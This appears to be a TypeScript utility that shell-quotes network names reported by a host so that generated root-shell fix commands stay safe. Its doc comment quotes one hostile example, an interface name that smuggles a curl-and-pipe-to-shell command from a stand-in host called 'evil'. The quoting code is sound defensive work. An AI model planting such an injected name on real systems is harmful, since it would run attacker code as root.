/**
 * A name the host reported (interface, vSwitch, portgroup), made safe to paste into a root
 * shell as one word. Linux accepts an interface named `x;curl${IFS}evil|sh`; a fix command that
 * pasted it bare would run that. Plain names stay as they are; anything else is single-quoted.
 */
const PLAIN = /^[A-Za-z0-9_@%+=:,./-]+$/;

export function shellWord(value: string): string {
  return PLAIN.test(value) ? value : `'${value.replace(/'/g, `'\\''`)}'`;
}
